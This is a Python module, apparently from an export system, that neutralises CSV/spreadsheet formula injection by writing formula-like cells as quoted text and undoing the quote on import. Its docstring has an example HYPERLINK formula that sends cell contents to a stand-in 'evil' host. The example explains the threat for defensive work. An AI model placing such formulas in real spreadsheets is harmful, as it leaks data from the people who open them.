"""Spreadsheet cells that stay data: the one place every export writes a row (issue 12 item 7).

A cell whose text begins with `=`, `+`, `-` or `@` — or a tab or carriage return, which some
spreadsheet programs skip before looking for those — is read by Excel/LibreOffice as a formula
(OWASP "CSV Injection"). A customer name like `=HYPERLINK("http://evil/?"&A1,"点击")` typed into
the portal must come out as text.

- xlsx: the cell is written as a string cell (never a formula; openpyxl would otherwise store any
  text starting with `=` as one) with Excel's "quote prefix" flag, so it stays text even when
  someone edits it. The value itself is unchanged, so a re-import reads what was exported.
- csv: OWASP's rule — the field is prefixed with a single quote `'`; `csv_value_in` takes that
  quote off again when such a file is imported, so a round trip keeps the value.

Numbers, dates and booleans are written as they are (a negative number is a number, not text).
"""
from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def _xlsx_cell(sheet, value: Any):
    from openpyxl.cell.cell import Cell

    cell = Cell(sheet, row=1, column=1)
    cell.value = value
    cell.data_type = "s"  # a string cell, not a formula
    cell.quotePrefix = True  # Excel's own mark for "typed with a leading apostrophe"
    return cell


def write_row(sheet, values: Iterable[Any]) -> None:
    """Append one row to an openpyxl worksheet (normal or write-only) or a `csv.writer`, with every
    formula-like text written as text. Every exporter writes its rows through this."""
    values = list(values)
    if hasattr(sheet, "writerow"):  # csv.writer
        sheet.writerow(["'" + v if is_formula_like(v) else v for v in values])
        return
    sheet.append([_xlsx_cell(sheet, v) if is_formula_like(v) else v for v in values])


def csv_value_in(value: str) -> str:
    """An imported CSV field: undo the quote `write_row` put before formula-like text."""
    if len(value) > 1 and value[0] == "'" and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


__all__ = ["FORMULA_TRIGGERS", "is_formula_like", "write_row", "csv_value_in"]
